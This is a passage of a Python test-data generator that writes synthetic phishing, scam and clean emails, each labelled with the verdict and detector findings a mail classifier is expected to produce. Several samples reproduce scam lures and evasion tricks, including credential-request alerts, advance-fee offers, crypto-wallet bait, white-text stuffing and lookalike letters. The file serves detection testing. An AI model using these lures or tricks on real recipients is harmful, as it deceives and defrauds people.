        "clean", "sender.org_name_mismatch")

    # The same kind of name, written by the organisation's own address:
    # its initials, or a mailing service's address made of its name.
    write("en-81-clean-org-initials.eml", headers(
        "Royal Bank of Canada <alerts@rbc.example>",
        "Your statement is ready") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your statement is ready in online banking: "
        "https://www.rbc.example/statements\n", "clean")
    write("en-82-clean-org-via-mailer.eml", headers(
        "Riverside Garden Club <riversidegardenclub-gmail.com"
        "@shared1.mailer.example>", "Plant sale on Saturday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Our plant sale is on Saturday: "
        "https://riverside-garden.example.org/sale\n", "clean")

    # A sender under a top-level domain much used by phishing, linking to
    # its own site there: one fact, weighed once (on the sender).
    write("en-83-sender-risky-tld.eml", headers(
        "Nerve Relief <offers@relief-daily.beauty>", "Feel better today") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Read more: https://relief-daily.beauty/article\n",
        "clean", "sender.risky_tld")

    # A sender domain spelt out in one-letter labels.
    write("en-84-spelt-out-domain.eml", headers(
        "Hearing Aid <news@h.e.a.r.i.n.g.k56.example-offers.net>",
        "Hear again") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "See the offer: https://example-offers.net/hear\n",
        "clean", "sender.random_domain")

    # A link to a rented server's generic name, made of its IP address;
    # from a brand's own domain, the address is forged.  An internal
    # server's name (a private address) is none (its name, mostly digits
    # and hyphens, looks machine-made: a low finding of its own).
    write("en-85-ip-host-brand.eml", headers(
        "Banco do Brasil <aviso@bb.com.br>", "Seus pontos") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Consulte seus pontos.</p>"
        '<p><a href="http://198.51.100.24.host.example-hosting.net/home/">'
        "Consultar</a></p></body></html>\n",
        "threat", "url.ip_host", "sender.brand_domain_hosting")
    write("en-86-clean-private-ip-host.eml", headers(
        "Build Server <ci@builds.example.org>", "Build 812 passed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Build 812 passed. Logs: "
        "http://ip-10-0-3-17.builds.example.org/logs/812\n", "clean",
        "url.random_host")

    # A brand's own domain whose pictures come from a free image host and
    # nothing from the brand's sites; the brand relaying a user's comment
    # with such a picture still links to itself.
    write("en-87-brand-image-host.eml", headers(
        "Bradesco <aviso@bradesco.com.br>", "Comunicado") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><img src="https://i.imgur.com/Q9aBc1x.png">'
        '<p><a href="https://comunicado-cliente.example.net/">Ver</a>'
        "</p></body></html>\n",
        "potential", "sender.brand_domain_hosting", "url.image_hosting")
    write("en-88-clean-brand-relay-image.eml", headers(
        "octocat <notifications@github.com>",
        "Re: [example/widgets] Button is misaligned (#42)") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Here is a screenshot:</p>"
        '<p><img src="https://i.imgur.com/Zx81Lmq.png"></p>'
        '<p><a href="https://github.com/example/widgets/issues/42">'
        "View it on GitHub</a></p></body></html>\n",
        "clean", "url.image_hosting")

    # A brand's name as the name of a site on free hosting, the mail's
    # only link.
    write("en-89-brand-free-hosting.eml", headers(
        "Notifications <notifications@forms-service.example>",
        "You have a new response") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Private access to the new platform: "
        "https://metamask-us.weebly.com/\n",
        "threat", "url.brand_in_host", "url.free_hosting",
        "url.anonymous_only")


def corroboration_samples():
    """Findings of different checks add a little when they agree; two of
    one check, or a weak one, do not."""
    # A malformed sender address (the sender) and a page on free hosting
    # (the links): 30 + 20, and 10 for the agreement: a threat.
    write("en-90-corroborated.eml", headers(
        "Accounts <accounts@ledger_notice.example>",
        "Statement available") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your statement: https://ledger-statement.weebly.com/\n",
        "threat", "sender.several_from", "url.free_hosting",
        "engine.corroborated")
    # The same name with replies going elsewhere: a weak sign (10) agrees
    # with nothing, and it stays a potential threat.
    write("en-91-weak-not-corroborating.eml", headers(
        "Netflix <billing@streamhelp-account.example>",
        "Notice about your membership",
        "Reply-To: desk@membership-help.example.org\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your membership notice is ready. Reply to this mail with "
        "questions.\n", "potential", "sender.display_brand",
        "sender.replyto_mismatch")
    # A stranger hands over the login of a wallet with a fortune in it
    # (the site written out so that it is no link); then, in Japanese.
    write("en-93-crypto-login.eml", headers(
        "Dana Whitfield <dana.w@harbor-freight-lines.example>",
        "Re: wallet details") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello, I found these details in a bag left at the airport. I know "
        "nothing about crypto, let us cash it out together.\n"
        "Website: vaultcoin . net\nCustomer ID: 48213377\n"
        "Password: qk7tr29x\nThe current balance is 64.2 BTC.\n",
        "threat", "content.crypto_login")
    write("ja-09-crypto-login-utf8.eml", headers(
        uhdr("佐藤 健") + " <sato.k@tokai-butsuryu.example>",
        uhdr("ウォレットの件")) +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "ウォレットに 12.5 BTC の残高があります。"
        "以下のログイン情報で確認してください。\n"
        "ID：73310284\nパスワード：mz83kd1q\n", "threat",
        "content.crypto_login")
    # A new account's first password, and an exchange's statement with
    # its balance: each half of the scam alone is ordinary mail.
    write("en-94-clean-first-password.eml", headers(
        "IT Service Desk <servicedesk@contoso.com>",
        "Your new account") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Welcome! Your account is ready.\nUser name: j.smith\n"
        "Temporary password: Wn4ps82q (you will be asked to change it "
        "when you first sign in).\n", "clean")
    write("en-95-clean-exchange-statement.eml", headers(
        "Kraken <noreply@kraken.com>", "Your monthly statement") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your balance on 30 November: 0.42 BTC.\n"
        "Sign in to see your statement: https://www.kraken.com/sign-in\n",
        "clean")
    # A greeting by the reader's address (a harvested list) and a text
    # that asks for the password: two kinds of evidence, 20 + 35 + 10.
    write("en-96-greeting-and-lure.eml", headers(
        "Mail Administrator <admin@mailbox-notice.example>",
        "Mailbox notice") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear taro.yamada@contoso.com,\n\nYour mailbox is full and "
        "incoming messages are pending. Verify your account to release "
        "them: https://mailbox-notice.example/release\n",
        "threat", "content.address_greeting", "content.credential_request",
        "engine.corroborated")
    # Two signs of the links alone (free hosting behind a shortener) are
    # one kind of evidence: a potential threat.
    write("en-92-one-check-twice.eml", headers(
        "Mia Jones <mia.jones@quill-post.example>", "Photos") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Photos of the trip: https://bit.ly/3pRt8Yv and "
        "https://trip-photos-mia.weebly.com/\n",
        "potential", "url.shortener", "url.free_hosting")


def lure_form_samples():
    """Two tricks of bulk scams that are not in their words: a sum shown
    as already credited, and a subject with its spaces replaced."""
    # "+$1,540" on a page on free hosting, from free mail: 30 + 20 and
    # the agreement of the text and the links, 10.
    write("en-97-credited-sum.eml", headers(
        "Rewards Desk <rewards.desk.2291@gmail.com>",
        "Score released") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your score has been released: +$1,540.\n"
        "Details: https://score-details-2291.weebly.com/\n",
        "threat", "content.credited_sum", "url.free_hosting",
        "engine.corroborated")
    # The same in Japanese, with the full-width plus sign.
    write("ja-17-credited-sum-utf8.eml", headers(
        uhdr("ポイントセンター") + " <point.center.88@gmail.com>",
        uhdr("入金のお知らせ")) +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "お客様の残高に＋35,000円が入金されました。\n"
        "受け取りはこちら: https://point-uketori-88.weebly.com/\n",
        "threat", "content.credited_sum", "url.free_hosting",
        "engine.corroborated")
    # Words joined by underscores, images on an image host and links
    # behind a shortener: 20 + 20 + 15, and 10 for the agreement.
    write("en-98-subject-disguised.eml", headers(
        "Member Services <offers@ridgeway-members.example>",
        "_Your_Reward_Is_Waiting_") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><a href=\"https://bit.ly/4kQw9Zr\"><img src=\""
        "https://i.imgur.com/Qm7Zt2L.png\" alt=\"\"></a></body></html>\n",
        "threat", "content.subject_disguised", "url.image_hosting",
        "url.shortener", "engine.corroborated")
    # An inheritance offer with no sum named, replies going to free
    # mail: the words of the scam and the address to answer to.
    write("en-134-advance-fee-reply-free.eml", headers(
        "Kelvin Roberts <info@meridian-trust-group.example>",
        "I seek your approval",
        "Reply-To: kelvin.roberts.1961@gmail.com\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "I seek your approval to present you as next of kin to the "
        "pending inheritance funds in my bank. If you are interested, let "
        "me know and I will tell you the next procedure.\n"
        "Mr. Kelvin Roberts\n",
        "threat", "content.advance_fee", "sender.replyto_freemail",
        "engine.corroborated")
    # A case number in the sender's name, as bulk phishing stamps on
    # each mail to look official; a phone number written with its
    # separators, or a ticket number, is not one.
    write("en-135-display-number.eml", headers(
        "\"Atendimento - Protocolo: 7164942633959\" <atendimento.centro88@gmail.com>",
        "Your request") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your request has been received and is being processed.\n",
        "potential", "sender.display_number")
    write("en-136-clean-numbers-in-name.eml", headers(
        "Kenji Sato 090-1234-5678 <kenji.sato@contoso.com>",
        "Re: Support Ticket #45128") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Thanks, the printer works again. Call me if it fails.\nKenji\n",
        "clean")
    # A sender address that a spam tool made from a list of names and
    # a serial number; a person's own free mail address with digits, or
    # a shop's order mailbox with its number, is not one.
    write("en-137-generated-address.eml", headers(
        "Autodeals <Ramos_Todd_50742@news.autodeals-mail.com>",
        "Need auto coverage?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Choose the top vehicle protection plan in the USA.\n"
        "Get your quote: https://bit.ly/3xCarQ7\n",
        "threat", "sender.generated_address", "url.shortener",
        "url.anonymous_only",
        "engine.corroborated")
    write("en-154-generated-address-numbered.eml", headers(
        "Car Kit <NEW_OFFRE_1_12626@news.autodeals-mail.com>",
        "Car emergency kit") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Be ready for the road: https://bit.ly/3xCarK1\n",
        "threat", "sender.generated_address", "url.shortener",
        "url.anonymous_only",
        "engine.corroborated")
    write("en-138-clean-freemail-digits.eml", headers(
        "Paige Turner <paige_turner_455@aol.com>", "Saturday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, are we still on for the hike on Saturday? Paige\n",
        "clean")
    write("en-139-clean-order-mailbox.eml", headers(
        "Contoso Shop <order_20231@shop.contoso.com>",
        "Your order 20231 has shipped") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello Taro, your order 20231 left our warehouse today.\n",
        "clean")
    # A sender's name framed by marks; marks inside a name are not that.
    write("en-140-display-decorated.eml", headers(
        "\"*Limited#\" <deals.limited.store@gmail.com>",
        "Notifications#7643") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your reward is waiting: https://bit.ly/3rWd7Qx\n",
        "threat", "sender.display_decorated", "url.shortener",
        "url.anonymous_only",
        "engine.corroborated")
    write("en-141-clean-marks-in-name.eml", headers(
        "\"Sato_Kenji (R&D #3)\" <kenji.sato@contoso.com>",
        "Lab schedule") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, the lab is booked for Thursday. Kenji\n",
        "clean")
    # A police summons from free mail; a person named Court is no court.
    write("en-142-freemail-authority.eml", headers(
        "Policia Nacional <policia.nacional.citacao@gmail.com>",
        "Convocation") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "You are summoned to answer the attached complaint within 72 "
        "hours.\n",
        "potential", "sender.freemail_authority")
    write("en-143-clean-name-court.eml", headers(
        "Court Johnson <court.johnson@gmail.com>", "Dinner on Friday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Taro, dinner at our place on Friday? Court\n",
        "clean")
    # A loan offered by a stranger, replies to free mail.
    write("en-144-loan-offer.eml", headers(
        "info@lending-partners.example", "Hi",
        "Reply-To: lendingpartners.desk@gmail.com\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Are you looking for a reliable partner for your financial needs? "
        "We offer loans of all sizes: a personal loan, a mortgage or a "
        "business loan.\nContact: lendingpartners.desk@gmail.com\n",
        "threat", "content.advance_fee", "sender.replyto_freemail",
        "engine.corroborated")
    # A newsletter as MJML and most builders write it: font-size:0 on
    # each cell (against the gaps between inline blocks), the size of
    # the text set again in the block inside.  The text is seen.
    cell = ('<td align="left" style="font-size:0px;padding:10px 25px;'
            'word-break:break-word;"><div style="font-family:Arial,'
            'sans-serif;font-size:14px;line-height:1.5;color:#333333;">'
            '%s</div></td>')
    paras = ["This month the team shipped offline mode for the mobile "
             "app, so notes you write on a plane are saved and synced "
             "when you land.",
             "We also rebuilt search: results now show up while you type, "
             "and they include the text of attached PDFs.",
             "Thank you for the feedback many of you sent after the last "
             "issue; the dark theme is next on our list."]
    write("en-145-clean-mjml-newsletter.eml", headers(
        "Contoso Notes <news@notes.contoso.com>", "What's new in November") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><table role=\"presentation\" width=\"100%%\">"
        + "".join("<tr>" + cell % p + "</tr>" for p in paras) +
        "<tr>" + cell % ('<a href="https://notes.contoso.com/blog/'
                          'november">Read the full post</a>') + "</tr>"
        "</table></body></html>\n", "clean")
    # Text written white on the white page, many times the text shown;
    # white on a coloured button is seen.
    filler = ("The quarterly meeting of the garden club moved to the "
              "library hall, and the bake sale raised enough for new "
              "benches along the river path. ") * 6
    write("en-146-white-text-stuffing.eml", headers(
        "Prize Center <win@prize-center.example>", "Claim today") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Your gift card is waiting.</p>"
        "<p><a href=\"https://prize-center.example/c\">Claim</a></p>"
        "<div style=\"color:#ffffff;font-size:12px\">" + filler +
        "</div></body></html>\n",
        "potential", "html.hidden_text_stuffing")
    write("en-147-clean-white-button.eml", headers(
        "Contoso Notes <news@notes.contoso.com>", "Your weekly digest") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Three notes were shared with you this week.</p>"
        "<table><tr><td bgcolor=\"#0b57d0\" style=\"padding:10px\">"
        "<a href=\"https://notes.contoso.com/shared\" style=\"color:"
        "#ffffff\">See what was shared with you this week</a></td></tr>"
        "</table><table style=\"background-color:#202124\"><tr><td "
        "style=\"color:#ffffff\">Contoso Notes, 1 Main Street, Springfield"
        "</td></tr></table></body></html>\n", "clean")
    # A quote left open in the sender's name.
    write("en-155-from-open-quote.eml", headers(
        '"Uw Energie Advies Team"" <energie@advies-team.example>',
        "Besparen op uw energierekening?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Profiteer nu van de gedaalde energietarieven.\n",
        "potential", "sender.several_from")
    # A top-level domain with a hyphen, which none has.
    write("en-156-from-tld-hyphen.eml", headers(
        "Confirnation@skyfon-varna.eu-NEW", "your parcel has been shipment") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your package will be sent back.\n",
        "potential", "sender.several_from")
    # A brand's name with a possessive put in it.
    write("en-157-brand-possessive.eml", headers(
        "Prime's Video Suspended <billing@renewals-center.example>",
        "Unauthorized payment") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your membership is on hold.\n",
        "potential", "sender.display_brand")
    # The reader's own address as the local part of the sender's: an
    # "@" outside quotes in a local part, which no address can hold.
    write("en-158-from-address-inside.eml", headers(
        "Noticias Diarias <taro.yamada@contoso.com@boletin-diario.example>",
        "La inversion de la que todos hablan") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Lea la entrevista completa en nuestro sitio.\n",
        "potential", "sender.several_from")
    # ... where a quoted local part may hold one.
    write("en-159-clean-quoted-at.eml", headers(
        '"Taro (home)" <"taro@home"@contoso.com>', "Lunch tomorrow?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Shall we meet at noon at the usual place?\n", "clean")
    # A sign-in alert in French, in Microsoft's words, from somewhere
    # else with a link elsewhere; and Microsoft's own, which links home.
    fr = ("Compte Microsoft\nActivit\u00e9s de connexion inhabituelles\n"
          "Nous avons d\u00e9tect\u00e9 quelque chose d'inhabituel \u00e0 "
          "propos d'une connexion r\u00e9cente au compte Microsoft "
          "ta*****@contoso.com.\nPays/r\u00e9gion : Unknown\nVeuillez "
          "acc\u00e9der \u00e0 votre page d'activit\u00e9 r\u00e9cente "
          "et nous faire savoir s'il s'agissait de vous ou non. Si ce "
          "n'\u00e9tait pas vous, nous vous aiderons \u00e0 s\u00e9curiser "
          "votre compte.\n")
    write("en-160-fr-signin-alert.eml", headers(
        "Service Clients <info@avis-clients.example>",
        "Activit\u00e9 inhabituelle") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>" +
        fr.replace("\n", "<br>") + '</p><p><a href="https://revue-'
        'activite.example/fr">Passer en revue les activit\u00e9s r\u00e9'
        "centes</a></p></body></html>\n",
        "threat", "content.credential_request",
        "content.brand_links_elsewhere")
    write("en-161-clean-fr-signin-microsoft.eml",
          eop_pass("accountprotection.microsoft.com", "40.92.18.73") +
          headers("Compte Microsoft <account-security-noreply@"
                  "accountprotection.microsoft.com>",
                  "Activit\u00e9 de connexion inhabituelle") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>" +
          fr.replace("\n", "<br>") + '</p><p><a href="https://account.'
          'live.com/activity">Passer en revue les activit\u00e9s r\u00e9'
          "centes</a></p></body></html>\n", "clean")
    # A phishing mail the reader forwarded to themselves: the mailbox
    # still holds it, and its sender is read from the header block the
    # mail program wrote into the text.
    write("en-162-fwd-brand-sender.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "Fwd: Your account is on "
        "hold") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "is this real?\n\n---------- Forwarded message ---------\n"
        "From: PayPal Service <service@account-hold-notice.example>\n"
        "Date: Mon, Nov 2, 2026 at 9:12 AM\nSubject: Your account is on "
        "hold\nTo: <taro.yamada@contoso.com>\n\nWe could not process your"
        " last payment. Review it here:\nhttps://review-center."
        "example/login\n", "threat", "sender.display_brand")
    # Outlook's block in Portuguese, a machine-made sender domain.
    write("en-163-fwd-pt-random-sender.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "ENC: confirmation "
        "receipt") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "________________________________\nDe: Senior Discounts <info@"
        "zyfgsxfrzhkwbwlwoynhvqwvlx.example>\nEnviado: segunda-feira, 2 "
        "de novembro de 2026 09:12\nPara: taro.yamada@contoso.com\n"
        "Assunto: confirmation receipt\n\nYour reward is waiting:\n"
        "https://s3.amazonaws.com/rewards-7781/claim.html\n",
        "threat", "sender.random_domain", "url.free_hosting",
        "url.anonymous_only", "!content.address_greeting")
    # A reply quotes the mail it answers; only forwards are read so.
    write("en-164-clean-reply-quote.eml", headers(
        "Hanako Sato <hanako.sato@northwind.example>", "RE: rpm list") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Thanks, that fixed it.\n\n-----Original Message-----\nFrom: "
        "rpm-list-admin@zyfgsxfrzhkwbwlwoynhvqwvlx.example\nSent: Monday, "
        "November 2, 2026 9:12 AM\nTo: rpm-list@zyfgsxfrzhkwbwlwoynhvqwvlx."
        "example\nSubject: rpm list\n\nTry the new package.\n", "clean")
    # Outlook writes the name alone for some senders: a claim the links
    # are weighed against, and nothing more.
    blk = ("________________________________\nDe: Facebook\nEnviado: "
           "segunda-feira, 2 de novembro de 2026 09:12\nPara: taro.yamada@"
           "contoso.com\nAssunto: Someone tried to log in to your account"
           "\n\nA user just logged into your account from a new device.\n")
    write("en-165-fwd-name-only.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "ENC: Someone tried to "
        "log in to your account") +
        "Content-Type: text/plain; charset=utf-8\n\n" + blk +
        "Check it: https://fb-login-check.example/secure\n",
        "threat", "sender.brand_links_elsewhere")
    # ... and only that: what the block says is the forwarder's text,
    # never a reason to trust the mail more, so a brand's wording stays
    # weighed as it is (the links go home: no claim elsewhere).
    write("en-166-fwd-name-only-home.eml", headers(
        "Kenji Ito <kenji.ito@fabrikam.com>", "ENC: Someone tried to "
        "log in to your account") +
        "Content-Type: text/plain; charset=utf-8\n\n" + blk +
        "Check it: https://www.facebook.com/login/device-based/\n",
        "potential", "content.credential_request",
        "!sender.brand_links_elsewhere")
    # A name of several words written alone is read whole: "Banco do
    # Brasil", not "Banco".
    write("en-178-fwd-name-only-words.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "ENC: aviso") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "________________________________\nDe: Banco do Brasil\nEnviado: "
        "segunda-feira, 2 de novembro de 2026 09:12\nPara: taro.yamada@"
        "contoso.com\nAssunto: aviso\n\nAcesse https://bb-aviso.example/"
        "login\n", "potential", "sender.brand_links_elsewhere")
    # A colleague's free mail address on the To line of a forwarded
    # block is nobody's private address to write to.
    write("en-167-clean-fwd-to-freemail.eml", headers(
        "Hanako Sato <hanako.sato@contoso.com>", "Fwd: estate of my aunt") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "FYI, the notary's letter below.\n\n---------- Forwarded message "
        "---------\nFrom: Notary Office <office@notary-kyoto.example>\n"
        "Date: Mon, Nov 2, 2026 at 9:12 AM\nSubject: estate of your aunt"
        "\nTo: <hanako.sato.home@gmail.com>\n\nAs the beneficiary of the "
        "inheritance of the deceased, please bring your seal to our office."
        "\n", "clean")
    # Outlook's "sender on behalf of From" in a forwarded block: the
    # From is the mailbox after the words.
    write("en-168-fwd-on-behalf.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "FW: Your parcel") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "________________________________\nFrom: bounce-7781@mailer-"
        "relay.example <bounce-7781@mailer-relay.example> on behalf of DHL "
        "Express <notice@parcel-status-desk.example>\nSent: Monday, "
        "November 2, 2026 9:12 AM\nTo: Taro Yamada\nSubject: Your parcel"
        "\n\nYour parcel is waiting for you.\n",
        "potential", "sender.display_brand", "!sender.display_address")
    # In a forward, "to: x@gmail.com" in the scam's own words (no
    # header block's From or date line before it) is still a private
    # address to write to.
    write("en-169-fwd-write-to-freemail.eml", headers(
        "Taro Yamada <taro.yamada@contoso.com>", "Fwd: a family matter") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "---------- Forwarded message ---------\nFrom: Law Office "
        "<office@law-desk.example>\nDate: Mon, Nov 2, 2026 at 9:12 AM\n"
        "Subject: a family matter\nTo: <taro.yamada@contoso.com>\n\n"
        "Good day. I write about the inheritance of a deceased relative "
        "of yours who lived abroad and left no will; our office has "
        "searched for his family for two years. You can be named the "
        "beneficiary once we have your details.\nSend your full name and "
        "address to: law.office.2026@gmail.com\n", "threat",
        "content.advance_fee")
    # A delivery delayed, the delivery lure's other form, in Spanish.
    write("en-170-delivery-delay-es.eml", headers(
        "Aviso de Entrega <avisos@envios-estado.example>",
        "Su pedido se ha retrasado") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>"
        "Confirme su direcci\u00f3n para recibirlo.</p><p><a href=\""
        "https://confirmar-direccion.example/es\">Confirmar</a></p>"
        "</body></html>\n", "clean", "content.delivery_lure")
    # "Win a ..." in German, with a voucher and a survey: a prize lure.
    write("en-171-prize-de.eml", headers(
        "Kundenumfrage <team@umfrage-aktion.example>",
        "Gewinne einen 500 Euro Gutschein") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>"
        "Nimm an unserer kurzen Umfrage teil und gewinne einen Gutschein "
        "f\u00fcr deinen n\u00e4chsten Einkauf.</p><p><a href=\"https://"
        "umfrage-aktion.example/start\">Jetzt mitmachen</a></p></body>"
        "</html>\n", "potential", "content.prize")
    # A brand added from the phishing reports' lists (Roblox).
    write("en-172-brand-roblox.eml", headers(
        "Roblox Support <noreply@robux-rewards.example>",
        "Your free Robux are waiting") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Log in to claim them before they expire.\n",
        "potential", "sender.display_brand")
    # A page made with a free site builder (Adobe Express's web pages),
    # and no other link: nothing of the sender's own.
    write("en-173-free-site-builder.eml", headers(
        "Mail Admin <admin@mail-quota-notice.example>",
        "Your mailbox is almost full") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Keep your messages: https://new.express.adobe.com/webpage/"
        "Q7mX2kLp9\n", "potential", "url.free_hosting",
        "url.anonymous_only")
    # A brand's name on a mail provider anyone can open an address at.
    write("en-174-brand-on-proton.eml", headers(
        "PayPal Service <paypal.service.desk@pm.me>",
        "Your account is limited") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Reply to this mail to restore access.\n",
        "threat", "sender.display_brand", "sender.brand_freemail")
    # People whose names are brands' names: a weak brand's name that is
    # the first word of the address, a first and last name the address
    # is made of; and the brand's name on an address that is not.
    lunch = ("Content-Type: text/plain; charset=utf-8\n\n"
             "See you at noon: https://northwind.example/menu\n")
    write("en-175-clean-person-chase.eml", headers(
        "Chase <chase@northwind.example>", "lunch") + lunch, "clean",
        "!sender.display_brand")
    write("en-176-clean-person-amil.eml", headers(
        "Amil Khan <amil.khan@northwind.example>", "lunch") + lunch,
        "clean", "!sender.display_brand")
    write("en-177-weak-brand-other-address.eml", headers(
        "Chase <alerts@card-notice-desk.example>", "Card alert") + lunch,
        "threat", "sender.display_brand")
    # No From header at all, which every mail must have.
    write("en-148-no-from.eml",
        "To: taro.yamada@contoso.com\nSubject: I wrote you a long time ago\n"
        "Date: %s\nMessage-ID: <148@mail.test>\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "How are you? Write to me.\n" % DATE,
        "potential", "sender.several_from")
    # One word of the sender's name with a letter of another script
    # that passes for a Latin one (Tai Le U+1974 for "c"); names in
    # Armenian or Greek letters, a word each, are names.
    write("en-149-name-lookalike.eml", headers(
        "\"Support a\u1974count team\" <noreply@campus-housing.example>",
        "Your new user agreement") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Please read and sign the new user agreement for your account.\n",
        "potential", "content.obfuscated_text")
    write("en-150-clean-names-other-scripts.eml", headers(
        "\"\u0531\u0580\u0561\u0574 Petrosyan, \u039c\u03b1\u03c1\u03af\u03b1\" "
        "<aram.petrosyan@contoso.com>", "Minutes of Monday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, the minutes of Monday's meeting are attached. Aram\n",
        "clean")
    # Links through Google's AMP viewer and its /url redirect.
    write("en-151-google-redirects.eml", headers(
        "Lido Finance Team <support@unique-mgmt.example>",
        "Discover Lido V2") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>The first wave of applicants receives vouchers.</p>"
        "<p><a href=\"https://google.com/amp/s/mailserver.example/lido\">"
        "Reserve your spot</a> or <a href=\"https://www.google.com/url?q="
        "https%3A%2F%2Fmailserver.example%2Fv2\">read more</a></p>"
        "</body></html>\n",
        "threat", "sender.display_brand", "url.open_redirect",
        "engine.corroborated")
    # A price in the sender's name; a name with a number is no offer.
    write("en-152-display-offer.eml", headers(
        "\"Canvas Prints 93% off\" <deals@canvas-prints.example>",
        "Up to 93% off custom canvas prints") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Order today: https://canvas-prints.example/sale\n",
        "clean", "sender.display_offer")
    write("en-153-clean-name-number.eml", headers(
        "\"Team 7 (Osaka)\" <team7@contoso.com>", "Schedule for week 48") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro, the schedule for week 48 is on the share.\n",
        "clean")
    # A payment received, as PayPal writes it: the brand's own notice,
    # linking only to the brand.
    write("en-99-clean-payment-received.eml", headers(
        "PayPal <service@paypal.com>", "You've got money") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello Taro Yamada,\nKenji Sato sent you +$1,250.00 USD.\n"
        "See the details of this payment in your account: "
        "https://www.paypal.com/myaccount/transactions\n"
        "Help Center: https://www.paypal.com/us/smarthelp/home\n",
        "clean")
    # A file name and a host name as subjects, a sum and "+ $50".
    write("en-132-clean-file-subject.eml", headers(
        "Kenji Sato <kenji.sato@contoso.com>", "Q3_sales_report_final") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro,\nthe Q3 figures are on the share: 4,200 + $1,300 for "
        "the new office, and the C++ team's licences + $50 each.\n"
        "Kenji\n", "clean")
    write("en-133-clean-host-subject.eml", headers(
        "Web Team <web@contoso.com>", "intranet.contoso.com.") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The intranet moves to its new host tonight; nothing to do on "
        "your side.\n", "clean")
    # Every picture on a free image host and every link on a free site
    # builder: nothing of the sender's own anywhere (20 + 15).
    write("en-179-anonymous-only.eml", headers(
        "Spring Catalogue <catalogue@garden-store-news.example>",
        "Our spring catalogue") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p><img src="https://i.ibb.co/Xk2mPq7/spring.png">'
        '</p><p><a href="https://garden-deals-2026.weebly.com/">See the '
        'catalogue</a></p><p><a href="https://garden-deals-2026.weebly.'
        'com/optout">Unsubscribe</a></p></body></html>\n',
        "potential", "url.anonymous_only", "url.image_hosting")
    # The same picture host in a shop's mail that links to its own site.
    write("en-180-clean-image-host-own-site.eml", headers(
        "Garden Store <news@garden-store.example>",
        "Our spring catalogue") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><p><img src="https://i.ibb.co/Xk2mPq7/spring.png">'
        '</p><p><a href="https://www.garden-store.example/spring">See the '
        "catalogue</a></p></body></html>\n",
        "clean", "url.image_hosting", "!url.anonymous_only")
    # A document shared from Google Drive comes from google.com and links
    # to docs.google.com: the sender's own storage.  The same link from a
    # free mail address is anyone's.
    write("en-181-clean-drive-share.eml", headers(
